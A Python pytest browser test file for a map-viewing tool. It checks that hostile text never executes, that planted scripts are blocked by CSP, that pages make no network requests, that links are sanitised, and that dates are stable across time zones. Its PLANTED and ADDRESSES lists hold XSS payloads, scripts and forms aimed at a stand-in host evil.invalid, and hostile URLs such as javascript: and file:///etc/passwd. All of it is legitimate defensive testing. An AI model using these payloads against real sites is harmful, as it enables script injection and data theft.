"""S1 to S4: what reports say never runs, asks for nothing and leads nowhere; R10 in the browser."""

from __future__ import annotations

import contextlib
import datetime as dt
import functools
import http.server
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import map_fixture
import pytest
import shapely
from map_browser import Watch, day_of, settle, show
from map_hostile import SINKS, STRINGS

from geo_ghouta import maps
from geo_ghouta.maps import cells
from geo_ghouta.maps.stills import save_picture
from geo_ghouta.schema import CONTROL, PICTURES, Actor, CaseFile, Pictures
from promises.counts import FULL, Trial

pytestmark = pytest.mark.browser
Opened = Callable[..., Any]
FOREIGN = "script, iframe, img, object, embed, form, video, style, link, base, meta, template, a[href^=javascript]"


def shown(text: str) -> str:
    """Text as a browser lays it out: runs of white space are one space."""
    return " ".join(text.replace("\u00a0", " ").split())


def look(page: Any, strings: list[str], tried: Trial) -> None:
    """Open every part of a page; each string must be shown as it is, and none may have become a node."""
    wanted = [shown(cells.clean(s)) for s in strings]
    for script, sink in SINKS:
        settle(page)
        page.evaluate(script)
        told = shown(page.evaluate(f"[...document.querySelectorAll('{sink}')].map((n) => n.textContent).join(' ')"))
        tried.failures += [f"{sink}: {s!r} not shown" for s in wanted if s not in told]
    page.evaluate(
        "document.querySelectorAll('.gg *').forEach((n) => { for (const kind of ['mouseover', 'mouseenter', 'focus', 'toggle']) n.dispatchEvent(new Event(kind)) })"
    )
    if page.evaluate("window.PWN") is not None:
        tried.failures.append(f"ran: {strings}")
    if page.evaluate(f"[...document.querySelectorAll('{FOREIGN}')].filter((n) => n.closest('.gg')).length"):
        tried.failures.append(f"became a node: {strings}")


@pytest.mark.parametrize("batch", range(6))
def test_S1_hostile_text_is_shown_and_never_runs(opened: Opened, tmp_path: Path, batch: int, tried: Trial) -> None:
    assert len(STRINGS) >= tried.count("hostile texts in every sink of a page")
    # Twelve strings stand behind one another in every sink of one page; each is looked for in what is shown.
    strings = STRINGS[batch::6]
    tried.numbers["hostile texts in every sink of a page"] = len(strings)
    path = maps.save_page(map_fixture.build(hostile=" ⁑ ".join(strings), quotes=True), tmp_path / "hostile.html")
    look(opened("d=2018-03-22", path=path), strings, tried)
    tried.end()


def test_S1_a_hostile_text_alone_is_shown_and_never_runs(opened: Opened, tmp_path: Path, tried: Trial) -> None:
    # Alone, for what another text beside it could have closed or quoted.
    number = tried.count("texts alone on a page")
    for text in STRINGS[:: max(1, len(STRINGS) // number)][:number]:
        path = maps.save_page(map_fixture.build(hostile=text, quotes=True), tmp_path / "alone.html")
        page = opened("d=2018-03-22", path=path)
        look(page, [text], tried)
        page.context.close()
    tried.end()


def test_S1_a_picture_as_svg_runs_nothing(browser: Any, tmp_path: Path, tried: Trial) -> None:
    # As on a page: many behind one another, and alone for what another text beside it could have closed or quoted.
    assert len(STRINGS) >= tried.count("texts in an SVG")
    number = tried.count("texts alone in an SVG")
    alone = STRINGS[:: max(1, len(STRINGS) // number)][:number]
    path = tmp_path / "picture.svg"
    context = browser.new_context()
    for text in [*(" ⁑ ".join(STRINGS[batch::6]) for batch in range(6)), *alone]:
        save_picture(map_fixture.build(hostile=text), path)
        page = context.new_page()
        watch = Watch(page)
        page.goto(f"file://{path}")
        nodes = "document.querySelectorAll('script, foreignObject, image, a, iframe, set, animate').length"
        if page.evaluate("window.PWN") is not None or page.evaluate(nodes) or watch.errors or watch.requests:
            tried.failures.append(f"{text!r}: {watch.errors} {watch.requests}")
        page.close()
    context.close()
    tried.end()


PLANTED = [
    "<script>window.PWN=1</script>", "<img src=x onerror='window.PWN=1'>", "<svg onload='window.PWN=1'></svg>", "<body onload='window.PWN=1'>",
    "<iframe srcdoc='<script>parent.PWN=1</script>'></iframe>", "<script src='https://evil.invalid/x.js'></script>",
    "<a id=planted href='javascript:window.PWN=1'>x</a>", "<object data='data:text/html,<script>parent.PWN=1</script>'></object>",
    "<form action='https://evil.invalid/'><button id=planted>x</button></form>", "<link rel=stylesheet href='https://evil.invalid/x.css'>",
    "<div id=planted onclick='window.PWN=1' style='position:fixed;inset:0;z-index:99999'>x</div>", "<script type=module>window.PWN=1</script>",
]  # fmt: skip


def test_S2_a_planted_script_is_blocked(browser: Any, saved: Path, tmp_path: Path, tried: Trial) -> None:
    assert len(PLANTED) >= tried.count("planted scripts")
    text = saved.read_text(encoding="utf-8")
    path = tmp_path / "planted.html"
    for planted in PLANTED:
        path.write_text(text.replace("</body>", planted + "</body>"), encoding="utf-8")
        context = browser.new_context()
        page = context.new_page()
        said: list[str] = []
        asked: list[str] = []
        page.on("console", lambda m, said=said: said.append(m.text))
        page.on("requestfinished", lambda r, asked=asked: asked.append(r.url) if r.url.startswith("http") else None)
        page.goto(f"file://{path}")
        page.wait_for_selector("[data-ready=true]")
        with contextlib.suppress(Exception):
            page.evaluate("document.getElementById('planted')?.click()")
        page.wait_for_timeout(50)
        if page.evaluate("window.PWN") is not None or asked:
            tried.failures.append(f"ran or asked: {planted}")
        if not any("Content Security Policy" in s for s in said) and "<body" not in planted:
            tried.failures.append(f"no violation was told: {planted}")
        context.close()
    tried.end()


@pytest.fixture
def served(socket_enabled: None, saved: Path, bundled: Path, tmp_path: Path) -> Iterator[tuple[dict[str, Path], str]]:
    """Pages of every kind, and the address of a server of our own that gives them out."""
    pages = {"bundled.html": bundled, "case.html": saved}
    pages["embed.html"] = maps.save_page(map_fixture.build(embed=True), tmp_path / "embed.html")
    pages["arabic.html"] = maps.save_page(map_fixture.build(language="ar", quotes=True), tmp_path / "arabic.html")
    for name, page in pages.items():
        if page.name != name or page.parent != tmp_path:
            (tmp_path / name).write_bytes(page.read_bytes())

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *_args: Any) -> None:
            pass

    handler = functools.partial(Quiet, directory=str(tmp_path))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield {name: tmp_path / name for name in pages}, f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.mark.loopback
@pytest.mark.allow_hosts(["127.0.0.1"])
def test_S3_a_page_asks_the_network_for_nothing(
    browser: Any, served: tuple[dict[str, Path], str], tried: Trial
) -> None:
    pages, address = served
    chosen = list(pages) if FULL else ["bundled.html", "embed.html"]
    opened = 0
    for name in chosen:
        ways = [f"file://{pages[name]}", f"{address}/{name}", "offline"]
        for way, dark in [(w, d) for w in ways for d in ((False, True) if FULL else (False,))]:
            context = browser.new_context(offline=way == "offline", color_scheme="dark" if dark else "light")
            page = context.new_page()
            asked: list[str] = []
            page.on(
                "request",
                lambda r, asked=asked: asked.append(r.url) if not r.url.startswith(("data:", "blob:")) else None,
            )
            url = ways[0] if way == "offline" else way
            page.goto(url)
            page.wait_for_selector("[data-ready=true]")
            for script, _ in SINKS[3:6] if name == "case.html" else []:
                page.evaluate(script)
            page.wait_for_timeout(100)
            opened += 1
            if [a for a in asked if a != url]:
                tried.failures.append(f"{name} by {way}: asked {asked}")
            context.close()
    tried.tell("openings of pages", opened)
    tried.end()


ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,x", "file:///etc/passwd",
    "vbscript:x", "ftp://example.invalid/a", "//example.invalid/a", "/relative", "mailto:a@example.invalid", "blob:x", "about:blank", "http:",
    "https://", "http://example.invalid/\"onclick=alert(1)", "https://example.invalid/<script>", "http://example.invalid/a b", "HTTP://EXAMPLE.invalid/",
    "https://user:word@example.invalid/", "https://example.invalid/\u202egpj.exe", "\x01https://example.invalid/", "https:example.invalid", "x" * 3000,
]  # fmt: skip


def test_S4_links_lead_out_only_over_http_and_without_a_trace(opened: Opened, tmp_path: Path, tried: Trial) -> None:
    assert len(ADDRESSES) >= tried.count("hostile addresses")
    source = map_fixture.build()
    rows = len(source.reports)
    for first in range(0, len(ADDRESSES), rows):
        given = (ADDRESSES[first : first + rows] * rows)[:rows]
        source.reports["url"] = given
        path = maps.save_page(source, tmp_path / f"links{first}.html")
        page = opened("d=2018-03-22", path=path)
        page.evaluate(SINKS[4][0])
        links = page.evaluate(
            "[...document.querySelectorAll('.gg a[href]')].filter((a) => !a.classList.contains('gg-skip')).map((a) => [a.protocol, a.rel, a.referrerPolicy])"
        )
        for protocol, rel, _ in links:
            if protocol not in {"http:", "https:"} or set(rel.split()) != {"noopener", "noreferrer"}:
                tried.failures.append(f"{given}: {protocol} {rel}")
        assert page.evaluate("document.querySelector('meta[name=referrer]')?.content") == "no-referrer"
    page = opened("d=2018-03-22")
    for row in page.locator(".gg-claim[data-claim]").all():
        row.click()
    assert page.locator(".gg a[href^=http]").count(), "plain addresses are links"
    tried.end()


DAYS = ["2001-09-08", "2001-09-10", "2015-12-31", "2016-01-01", "2016-02-28", "2016-02-29", "2016-03-01", "2016-03-27", "2016-04-01", "2016-10-28", "2016-10-30",
        "2016-11-06", "2016-12-31", "2017-01-01", "2018-03-11", "2018-03-25", "2018-03-30", "2018-04-01"]  # fmt: skip
"""Leap day, New Year, the days on which Berlin, Damascus, New York and Auckland change their clocks, and the two
between which the seconds since 1970 grow by a digit: sorted as text they broke other maps."""
ZONES = ["UTC", "America/New_York", "Asia/Damascus", "Pacific/Auckland"]


def dated(days: list[str]) -> maps.MapInput:
    """One box, drawn on each of these days."""
    rows = [
        {"area_id": f"{d}/a", "holder": "side", "status": "assessed", "valid_from": d, "source": "x", "drawn_by": "x", "precision_m": 100.0,
         "geometry": shapely.box(36.3, 33.5, 36.32 + n / 1000, 33.52)}
        for n, d in enumerate(days)
    ]  # fmt: skip
    dates = [{"picture_date": d, "areas": 1, "path": "x", "sha256": "0"} for d in days]
    first, last = dt.date.fromisoformat(days[0]), dt.date.fromisoformat(days[-1])
    box = (36.2, 33.4, 36.5, 33.6)
    casefile = CaseFile("Days", first, last, box, (36.0, 33.0, 37.0, 34.0), actors=(Actor("side", "One side"),))
    return maps.MapInput(casefile, Pictures(PICTURES.table(dates), CONTROL.table(rows)))


def test_R10_no_zone_of_the_browser_moves_a_day(opened: Opened, tmp_path: Path, tried: Trial) -> None:
    days = DAYS[: tried.count("days in four zones of a browser")]
    path = maps.save_page(dated(days), tmp_path / "days.html")
    for zone in ZONES:
        page = opened(path=path, timezone_id=zone)
        seen = [day_of(page)]
        page.focus("#gg-handle")
        page.keyboard.press("Home")
        seen = [day_of(page)]
        for _ in days[1:]:
            page.keyboard.press("ArrowRight")
            seen.append(day_of(page))
        if seen != days:
            tried.failures.append(f"{zone}: {seen}")
        for n, day in enumerate(days[::3]):
            if FULL or not n:
                page.context.close()
                page = opened(f"d={day}", path=path, timezone_id=zone)
            else:
                show(page, f"d={day}")
            written = page.inner_text(".gg-date span >> nth=0")
            wanted = f"{int(day[8:])} {dt.date.fromisoformat(day):%B %Y}"
            if written != wanted:
                tried.failures.append(f"{zone}: {day} is written {written}")
        page.context.close()
    tried.end()
